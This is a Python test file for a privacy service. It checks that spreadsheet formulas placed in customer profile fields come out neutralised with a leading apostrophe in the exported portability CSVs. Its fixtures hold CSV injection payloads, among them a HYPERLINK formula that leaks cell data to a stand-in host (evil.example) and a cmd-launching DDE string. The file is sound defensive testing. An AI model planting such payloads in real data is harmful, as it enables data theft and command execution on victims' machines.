"""Spreadsheet formulas in the CSV files the service writes (issue 16, item 13).

The attacker puts formulas in a customer's profile (an operator-entered name, a self-service
correction); the customer downloads their portability ZIP and opens profile.csv in a spreadsheet.
Every cell that a spreadsheet would run comes out as text with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from httpx import AsyncClient

from privacy_service.config import Settings
from privacy_service.runtime import Runtime
from privacy_service.spreadsheet import csv_cell, csv_text
from tests.api.dsr_support import bearer, fresh_settings, make_subject, submit_and_verify
from tests.conftest import MailSink

EMAIL = "formula.victim@example.com"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
PAYLOADS = {
    "name": HYPERLINK,
    "given_name": "+1",
    "family_name": "-",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "region": "\t=1+1",
    "country": "\r=1+1",
}
HARMLESS = {"occupation": "Engineer", "nationality": "1-2"}


@pytest.fixture
async def settings(make_settings: Any, backend: str) -> Settings:
    return await fresh_settings(make_settings, backend)


async def test_profile_formulas_come_out_neutralised_in_the_portability_zip(
    client: AsyncClient, auth: dict[str, str], runtime: Runtime, mail: MailSink
) -> None:
    await make_subject(client, auth, email=EMAIL, profile={**PAYLOADS, **HARMLESS})
    request_id, verified = await submit_and_verify(client, runtime, mail, EMAIL, "portability")
    archive = await client.get(
        f"/v1/requests/{request_id}/export", params={"format": "zip"}, headers=bearer(verified["token"])
    )
    assert archive.status_code == 200, archive.text
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zipped:
        profile = list(csv.DictReader(io.StringIO(zipped.read("profile.csv").decode(), newline="")))
        records = list(csv.reader(io.StringIO(zipped.read("records.csv").decode(), newline="")))
    values = {row["field"]: row["value"] for row in profile}
    for field, payload in PAYLOADS.items():
        assert values[field] == "'" + payload, field  # shown as text, the value itself intact
    assert {field: values[field] for field in HARMLESS} == HARMLESS
    assert values["email"] == EMAIL
    for row in [*(list(r.values()) for r in profile), *records]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_formula_start_is_neutralised_and_other_cells_are_kept() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(None) == ""
    assert csv_cell(-5) == "'-5"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(12) == "12"
    assert csv_text([["=1", "ok"]]) == "'=1,ok\r\n"
